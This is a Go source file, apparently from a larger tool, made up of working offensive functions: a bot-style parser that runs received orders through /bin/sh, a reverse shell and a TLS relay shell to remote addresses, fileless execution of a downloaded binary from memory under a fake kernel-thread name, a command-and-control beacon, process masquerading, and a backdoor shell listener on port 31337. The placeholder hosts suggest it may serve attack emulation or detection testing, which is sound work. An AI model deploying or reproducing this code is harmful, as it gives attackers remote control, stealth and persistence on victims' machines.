package main

import (
	"context"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func digest(text string) string {
	sum := sha256.Sum256([]byte(text))
	return hex.EncodeToString(sum[:])
}

// command is what an order tells to run, in the ways that bots are told.
func command(order string) (string, bool) {
	for _, prefix := range []string{"!sh ", "!* SH ", "!cmd ", "/cmd ", "/shell "} {
		if c, ok := strings.CutPrefix(order, prefix); ok {
			return c, true
		}
	}
	return "", false
}

func obey(command string) string {
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	out, err := exec.CommandContext(ctx, "/bin/sh", "-c", command).CombinedOutput()
	if err != nil {
		return err.Error()
	}
	return string(out)
}

// reverseShell becomes a shell for whoever is at the address.
func reverseShell(args []string) error {
	conn, err := dial(arg(args, 0, "203.0.113.50:4444"))
	if err != nil {
		return err
	}
	f, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	for fd := range 3 {
		if err := syscall.Dup3(int(f.Fd()), fd, 0); err != nil {
			return err
		}
	}
	return syscall.Exec("/bin/sh", []string{"/bin/sh", "-i"}, os.Environ())
}

// relayShell stands between a shell and whoever is at the address, within TLS.
func relayShell(args []string) error {
	raw, err := dial(arg(args, 0, "203.0.113.52:443"))
	if err != nil {
		return err
	}
	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true})
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(limit))
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	cmd := exec.CommandContext(ctx, "/bin/sh")
	in, err := cmd.StdinPipe()
	if err != nil {
		return err
	}
	cmd.Stdout, cmd.Stderr = conn, conn
	if err := cmd.Start(); err != nil {
		return err
	}
	go func() {
		_, _ = io.Copy(in, conn) // ends with the connection
		in.Close()
	}()
	fmt.Println(cmd.Wait())
	return nil
}

// fileless fetches a program into memory and runs it there, under the name of
// a kernel thread, beside a child that calls home.
func fileless(args []string) error {
	home := exec.Command("/proc/self/exe", "beacon", arg(args, 1, "https://telemetry.kworker.test/ping"), "1s", "5")
	home.Stdout, home.Stderr = os.Stdout, os.Stderr
	if err := home.Start(); err != nil {
		return err
	}
	program, err := ask(web, http.MethodGet, arg(args, 0, "http://198.18.7.12/kworker.elf"), "", "User-Agent", "curl/8.5.0")
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("kworker", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	f := os.NewFile(uintptr(fd), "kworker")
	if _, err := io.WriteString(f, program); err != nil {
		return err
	}
	cmd := exec.Command(fmt.Sprintf("/proc/self/fd/%d", fd))
	cmd.Args = []string{"[kworker/0:1]"}
	out, err := cmd.CombinedOutput()
	fmt.Printf("%s", out)
	return errors.Join(err, home.Wait())
}

// beacon calls a place n times, with the same pause between.
func beacon(args []string) error {
	pause, err := time.ParseDuration(arg(args, 1, "1s"))
	if err != nil {
		return err
	}
	n := 5
	if _, err := fmt.Sscan(arg(args, 2, "5"), &n); err != nil {
		return err
	}
	for i := range n {
		if i > 0 {
			time.Sleep(pause)
		}
		try(web, http.MethodPost, arg(args, 0, "http://c2.example.test/ping"), "id=7", "Content-Type", "application/x-www-form-urlencoded")
	}
	return nil
}

// worker calls an address and stays for a while.
func worker(args []string) error {
	conn, err := dial(arg(args, 0, "203.0.113.55:443"))
	if err != nil {
		return err
	}
	defer conn.Close()
	if _, err := fmt.Fprintln(conn, "hello"); err != nil {
		return err
	}
	time.Sleep(8 * time.Second)
	return nil
}

// pose goes on under another name: pose name role….
func pose(args []string) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	return syscall.Exec(self, args, os.Environ())
}

// backdoor serves a page, and on another port a shell for whoever presses return.
func backdoor(args []string) error {
	go func() { fmt.Println(hiddenDoor(":" + arg(args, 0, "31337"))) }()
	return webserver([]string{"8080"})
}

// hiddenDoor returns when it cannot listen any more, and why.
func hiddenDoor(at string) error {
	ln, err := net.Listen("tcp4", at)
	if err != nil {
		return err
	}
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
		go func() {
			defer conn.Close()
			first := make([]byte, 1)
			if _, err := io.ReadFull(conn, first); err != nil || first[0] != '\n' && first[0] != '\r' {
				return
			}
			f, err := conn.(*net.TCPConn).File()
			if err != nil {
				return
			}
			defer f.Close()
			ctx, cancel := context.WithTimeout(context.Background(), limit)
			defer cancel()
			cmd := exec.CommandContext(ctx, "/bin/sh")
			cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
			fmt.Println(cmd.Run())
		}()
	}
}
